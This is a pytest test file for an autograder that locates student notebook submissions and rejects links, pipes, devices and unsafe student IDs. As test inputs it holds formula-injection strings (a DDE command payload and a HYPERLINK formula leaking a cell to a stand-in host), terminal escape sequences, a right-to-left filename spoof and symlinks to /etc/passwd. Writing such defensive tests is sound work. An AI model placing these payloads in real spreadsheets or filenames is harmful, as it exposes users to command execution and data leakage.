"""Finding submissions in both layouts, read with suspicion; nothing handed in is skipped silently."""
import os
import pathlib
import stat
import threading

import pytest

from autograder.printable import printable, spreadsheet_cell
from autograder.submissions import find_submissions, id_problem, safe_id
from autograder.validate import NotebookProblem, read_notebook

BOUND = 10  # seconds: what a pipe or a device may cost before the test gives up (a hang is a failure)


def bounded(function, *args):
    """``function(*args)`` in a daemon thread (one stuck on a pipe cannot keep pytest from exiting);
    a failure if it takes more than BOUND seconds."""
    outcome = {}

    def run():
        try:
            outcome["value"] = function(*args)
        except BaseException as exc:
            outcome["error"] = exc

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(BOUND)
    if thread.is_alive():
        pytest.fail(f"{function.__name__}{args} still running after {BOUND} s")
    if "error" in outcome:
        raise outcome["error"]
    return outcome["value"]


def find(folder, assignment="hw1"):
    return {s.student_id: s for s in bounded(find_submissions, folder, assignment, assignment)}


def make_device(path: pathlib.Path) -> bool:
    """A character device at ``path`` (the numbers of /dev/null), if this user may make one."""
    try:
        os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 3))
        return True
    except (PermissionError, OSError):
        return False


def test_both_layouts_and_every_kind_of_mistake(tmp_path):
    (tmp_path / "alice.ipynb").write_text("{}")
    (tmp_path / "bob.ipynb.txt").write_text("{}")
    (tmp_path / ".DS_Store").write_text("")
    nested = tmp_path / "carol" / "hw1"
    nested.mkdir(parents=True)
    (nested / "hw1.ipynb").write_text("{}")
    (nested / "data.csv").write_text("1,2")
    (tmp_path / "dave" / "hw1").mkdir(parents=True)
    (tmp_path / "dave" / "hw1" / "mine.ipynb").write_text("{}")
    (tmp_path / "erin").mkdir()
    (tmp_path / "alice").mkdir()  # alice also has a folder: two submissions
    found = find(tmp_path)
    assert list(found) == ["alice", "bob", "carol", "dave", "erin"]
    assert found["alice"].error == "error: several submissions (alice, alice.ipynb)"
    assert found["bob"].error == "error: expected STUDENT_ID.ipynb, found bob.ipynb.txt"
    assert found["carol"].error is None
    assert sorted(rel for _, rel in found["carol"].files) == ["data.csv", "hw1.ipynb"]
    assert found["dave"].error == "error: expected hw1.ipynb, found mine.ipynb"
    assert found["erin"].error == "error: no hw1/ folder in erin/"


def test_ids_with_dots_work_in_both_layouts(tmp_path):
    (tmp_path / "jean.dupont.ipynb").write_text("{}")
    (tmp_path / "s1234567.ipynb").write_text("{}")
    (tmp_path / "marie.curie" / "hw1").mkdir(parents=True)
    (tmp_path / "marie.curie" / "hw1" / "hw1.ipynb").write_text("{}")
    found = find(tmp_path)
    assert {s: sub.error for s, sub in found.items()} == {"jean.dupont": None, "marie.curie": None, "s1234567": None}
    assert found["jean.dupont"].notebook_path("hw1.ipynb") == tmp_path / "jean.dupont.ipynb"


def test_a_stray_file_beside_a_notebook_is_a_note_and_the_notebook_is_graded(tmp_path):
    (tmp_path / "alice.ipynb").write_text("{}")
    (tmp_path / "alice.ipynb.txt").write_text("an older copy")
    (tmp_path / "alice.py").write_text("print()")
    (tmp_path / "alice").write_text("")  # a file, not a folder
    (tmp_path / "grace.ipynb.txt").write_text("{}")  # no grace.ipynb: an error for grace, as before
    (tmp_path / "grace.py").write_text("")
    found = find(tmp_path)
    assert found["alice"].error is None
    assert found["alice"].notebook_path("hw1.ipynb") == tmp_path / "alice.ipynb"
    assert found["alice"].notes == ["alice beside alice.ipynb was not graded",
                                    "alice.ipynb.txt beside alice.ipynb was not graded",
                                    "alice.py beside alice.ipynb was not graded"]
    assert found["grace"].error == "error: expected STUDENT_ID.ipynb, found grace.ipynb.txt, grace.py"


def test_links_pipes_and_devices_are_errors_and_never_opened(tmp_path):
    honest = tmp_path / "honest.ipynb"
    honest.write_text("{}")
    solution = tmp_path.parent / "solution.ipynb"
    solution.write_text("{}")
    (tmp_path / "to_classmate.ipynb").symlink_to(honest)
    (tmp_path / "to_solution.ipynb").symlink_to(solution)
    (tmp_path / "to_zero.ipynb").symlink_to("/dev/zero")
    os.mkfifo(tmp_path / "pipe.ipynb")
    device = make_device(tmp_path / "device.ipynb")
    layout = tmp_path.parent / "layout"
    (layout / "hw1").mkdir(parents=True)
    (layout / "hw1" / "hw1.ipynb").write_text("{}")
    (tmp_path / "folder_link").symlink_to(layout)  # a whole student folder that is a link
    (tmp_path / "inner_link").mkdir()
    (tmp_path / "inner_link" / "hw1").symlink_to(layout / "hw1")
    (tmp_path / "notebook_link" / "hw1").mkdir(parents=True)
    (tmp_path / "notebook_link" / "hw1" / "hw1.ipynb").symlink_to(honest)
    (tmp_path / "data_link" / "hw1").mkdir(parents=True)
    (tmp_path / "data_link" / "hw1" / "hw1.ipynb").write_text("{}")
    (tmp_path / "data_link" / "hw1" / "data.csv").symlink_to("/etc/passwd")
    os.mkfifo(tmp_path / "data_link" / "hw1" / "queue")
    found = find(tmp_path)
    expected = {
        "to_classmate": "error: to_classmate.ipynb is a symbolic link (only regular files are graded)",
        "to_solution": "error: to_solution.ipynb is a symbolic link (only regular files are graded)",
        "to_zero": "error: to_zero.ipynb is a symbolic link (only regular files are graded)",
        "pipe": "error: pipe.ipynb is a named pipe (only regular files are graded)",
        "folder_link": "error: folder_link is a symbolic link (only regular files are graded)",
        "inner_link": "error: inner_link/hw1 is a symbolic link, not a folder",
        "notebook_link": "error: hw1.ipynb is a symbolic link (only regular files are graded)",
        "honest": None, "data_link": None}
    if device:
        expected["device"] = "error: device.ipynb is a character device (only regular files are graded)"
    assert {s: sub.error for s, sub in found.items()} == expected
    assert [rel for _, rel in found["data_link"].files] == ["hw1.ipynb"]
    assert found["data_link"].notes == ["data.csv left out: a symbolic link", "queue left out: a named pipe"]


@pytest.mark.parametrize("name, problem", [
    ('=HYPERLINK("http://example.invalid/?"&A1,"click")', "starts with ="),
    ("=cmd|' -c calc'!A0", "starts with ="),
    ("+1-2", "starts with +"), ("-x", "starts with -"), ("@SUM(A1)", "starts with @"),
    ("\x1b]0;pwned\x07\x1b[2Jmallory", "a control character"),
    ("mallory\nforged,ok,20,20", "a control character"),
    ("bob\u202egnp.exe", "a control character"),  # right-to-left override: shows as "bobexe.png"
    ("back\\slash", "a path separator"), (" alice", "a leading dot or space, or a trailing space"),
    ("x" * 101, "longer than 100 characters"),
])
def test_student_ids_pass_one_rule(name, problem):
    assert id_problem(name) == problem
    shown = safe_id(name)
    assert shown.startswith("invalid_") and id_problem(shown) is None
    assert shown.isascii() and shown.isprintable() and "/" not in shown and len(shown) < 60
    assert safe_id(name + "x") != shown  # two bad names are never merged into one student


@pytest.mark.parametrize("name", ["alice", "s1234567", "jean.dupont", "o'brien", "anne-marie", "zoë", "a@b.c"])
def test_ordinary_ids_are_allowed(name):
    assert id_problem(name) is None


def test_bad_folder_names_are_errors_under_a_safe_id_in_both_layouts(tmp_path):
    names = ["=cmd|' -c calc'!A0", "\x1b]0;pwned\x07\x1b[2Jeve", "mallory\nforged,ok,20,20"]
    for name in names:
        (tmp_path / name / "hw1").mkdir(parents=True)
        (tmp_path / name / "hw1" / "hw1.ipynb").write_text("{}")
    (tmp_path / "=HYPERLINK(1).ipynb").write_text("{}")
    (tmp_path / "\x1b[31mred.ipynb.txt").write_text("{}")
    found = find(tmp_path)
    assert sorted(found) == sorted(safe_id(n) for n in names + ["=HYPERLINK(1)", "\x1b[31mred"])
    for sub in found.values():
        assert sub.error.startswith(("error: invalid student id ", "error: expected STUDENT_ID.ipynb, found "))
        assert printable(sub.error) == sub.error and not sub.files
    assert found[safe_id("=cmd|' -c calc'!A0")].error == \
        "error: invalid student id =cmd|' -c calc'!A0 (starts with =)"
    assert found[safe_id(names[2])].error == "error: invalid student id mallory\\nforged,ok,20,20 (a control character)"


def test_reading_refuses_pipes_links_devices_and_large_files_without_blocking(tmp_path):
    good = tmp_path / "good.ipynb"
    good.write_text('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
    assert read_notebook(good).cells == []
    os.mkfifo(tmp_path / "pipe.ipynb")
    (tmp_path / "zero.ipynb").symlink_to("/dev/zero")
    (tmp_path / "link.ipynb").symlink_to(good)
    with open(tmp_path / "huge.ipynb", "wb") as f:
        f.truncate(60 * 2**20)  # sparse: nothing is written, the size is what counts
    cases = {"pipe.ipynb": "a named pipe (only regular files are graded)",
             "zero.ipynb": "a symbolic link (only regular files are graded)",
             "link.ipynb": "a symbolic link (only regular files are graded)",
             "huge.ipynb": "notebook too large (60 MiB; at most 50 MiB)"}
    if make_device(tmp_path / "device.ipynb"):
        cases["device.ipynb"] = "a character device (only regular files are graded)"
    for name, problem in cases.items():
        with pytest.raises(NotebookProblem) as raised:
            bounded(read_notebook, tmp_path / name)
        assert str(raised.value) == problem, name


def test_spreadsheet_cells_are_printable_and_never_formulas():
    assert spreadsheet_cell("=HYPERLINK(1)") == "'=HYPERLINK(1)"
    assert spreadsheet_cell("@SUM(A1)") == "'@SUM(A1)"
    assert spreadsheet_cell("-x") == "'-x" and spreadsheet_cell("-1.5") == "-1.5" and spreadsheet_cell("17") == "17"
    assert spreadsheet_cell("a\nb\x1b[2J") == "a\\nb\\x1b[2J"
    assert spreadsheet_cell("error: found =cmd") == "error: found =cmd"  # not at the start: no formula
